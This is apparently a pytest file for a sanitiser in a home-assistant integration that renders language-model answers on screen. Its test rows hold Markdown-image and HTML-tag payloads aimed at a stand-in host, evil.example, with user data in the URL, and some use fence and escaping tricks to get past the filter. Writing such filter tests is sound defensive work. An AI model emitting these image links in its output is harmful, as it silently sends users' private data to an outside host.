"""What a screen shows of an answer: it fetches nothing, and hides nothing."""

import pytest

from custom_components.lumo.speech.screen import ScreenText

EVIL = "https://evil.example/p.png?list=insulin"
LINK = f"[.]({EVIL}) (evil.example)"
FENCED = f"```html\n<img src=x> ![.]({EVIL})\n```\n"

# What a model writes, and what is shown.
ROWS = [
    ("Plain *text*, 3 < 4, a! b[0] and <3.", ""),
    (f"![.]({EVIL})", LINK),
    (f"Milk ![.]({EVIL}) and bread", f"Milk {LINK} and bread"),
    (f'![.](<{EVIL}> "title")', f'[.](<{EVIL}> "title") (evil.example)'),
    ("![.](//evil.example/x)", "[.](//evil.example/x) (evil.example)"),
    ("![.](/\\evil.example/x)", "[.](/\\evil.example/x) (evil.example)"),
    ("[a](&#104;ttps://b.example)", "[a](&#104;ttps://b.example) (b.example)"),
    ("![.](/api/webhook/gate)", "[.](/api/webhook/gate)"),
    ("![.](/local/../api/webhook/gate)", "[.](/local/../api/webhook/gate)"),
    ("![a](/api/image/serve/1/512x512)", ""),
    (
        f"[![.]({EVIL})](https://a.example)",
        f"[.({EVIL})](https://a.example) (a.example)",
    ),
    (f"[!\\[.\\]({EVIL})](/local/a)", f"[.({EVIL})](/local/a)"),
    (f"[![.]({EVIL})](/local/a)", f"[.({EVIL})](/local/a)"),
    (f"![a\nb]({EVIL})", f"[a\nb]\\({EVIL})"),
    (f"[a\nb]({EVIL})", f"[a\nb]\\({EVIL})"),
    (f"[a](\n{EVIL})", f"[a]\\(\n{EVIL})"),
    (f"[a `]` b]({EVIL})", f"[a `]` b]\\({EVIL})"),
    (f"\\\\![.]({EVIL})", f"\\\\{LINK}"),
    (f"![.][1]\n\n[1]: {EVIL}", f"[.][1]\n\n[1]\\: {EVIL}"),
    (f"> [1]: {EVIL}", f"> [1]\\: {EVIL}"),
    (f'<img src="{EVIL}">', f'&lt;img src="{EVIL}">'),
    (f"<svg><image href='{EVIL}'/></svg>", None),
    ("<details>folded</details><!-- gone -->", None),
    ("[shop](https://evil.example/a)", "[shop](https://evil.example/a) (evil.example)"),
    ("[shop](https://known.example/a)", ""),
    ("[evil.example](https://evil.example/a)", ""),
    ("[lights](/lovelace/0)", ""),
    (
        "[a <b>](https://evil.example)",
        "[a &lt;b>](https://evil.example) (evil.example)",
    ),
    ("Say `![.](x)` and `<b>`.", ""),
    ("Say ``a ` <b>`` now", ""),
    (FENCED, ""),
    (
        f"- a\n  ```\n  ![.]({EVIL})\n  ```\n![.]({EVIL})",
        f"- a\n  ```\n  ![.]({EVIL})\n  ```\n{LINK}",
    ),
    (
        f" ```\n![.]({EVIL})\n```\n![.]({EVIL})\n```\n",
        f" ```\n{LINK}\n```\n{LINK}\n```\n",
    ),
    (f"~~~\n<b>\n~~~\n![.]({EVIL})", f"~~~\n<b>\n~~~\n{LINK}"),
    ("- [ ] milk\n- [x] bread", ""),
    # What is no code to a reader of Markdown.
    (f"`![.]({EVIL})", f"`{LINK}"),
    (f"\\`![.]({EVIL})`", f"\\`{LINK}`"),
    (f"`a\n![.]({EVIL})`", f"`a\n{LINK}`"),
    (f"| `a | ![.]({EVIL}) ` |", f"| `a | {LINK} ` |"),
    (f"https://x.example/` ![.]({EVIL}) `", f"https://x.example/` {LINK} `"),
    (f"> ```\n![.]({EVIL})", f"> ```\n{LINK}"),
    (f"- a\n  ```\n![.]({EVIL})", f"- a\n  ```\n{LINK}"),
    (f"{FENCED}![.]({EVIL})", f"{FENCED}{LINK}"),
    (f"```\na\n   ```~\n![.]({EVIL})", f"```\na\n   ```~\n{LINK}"),
    (f"``` `a`\n![.]({EVIL})", f"``` `a`\n{LINK}"),
    (f"`{'x' * 3000} ![.]({EVIL})", None),
    (f"` | `![.]({EVIL})` `", f"` | `{LINK}` `"),
    (f"`a\n`![.]({EVIL})`", f"`a\n`{LINK}`"),
    (f"~~~`\n~~~\n![.]({EVIL})\n~~~", f"~~~`\n~~~\n{LINK}\n~~~"),
    (f"```\n\r```\r![.]({EVIL})", f"```\n\n```\n{LINK}"),
    # What is a picture although no reader of links takes it for one.
    (f"Done!![.]({EVIL})", f"Done! {LINK}"),
    (f"!![`\na`]({EVIL})", f"! [`\na`]\\({EVIL})"),
    (f"[a](![.]({EVIL}\\))", f"[a]\\([.]\\({EVIL}\\))"),
    (f"[a](b (c)![.]({EVIL})d)", f"[a]\\(b (c){LINK}d)"),
    ("https://a.example/\\<img src=x>", "https://a.example/\\\\&lt;img src=x>"),
]


@pytest.mark.parametrize(("written", "shown"), ROWS)
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_it_is_shown_so(written: str, shown: str | None, size: int) -> None:
    screen = ScreenText(lambda host: host == "known.example")
    pieces = (written[at : at + size] for at in range(0, len(written), size))
    said = "".join(map(screen.feed, pieces)) + screen.finish()
    if shown is None:
        assert f"![.]({EVIL})" not in said
        assert not any(tag in said for tag in ("<svg", "<details", "<!--", "<img"))
    else:
        assert said == (shown or written)
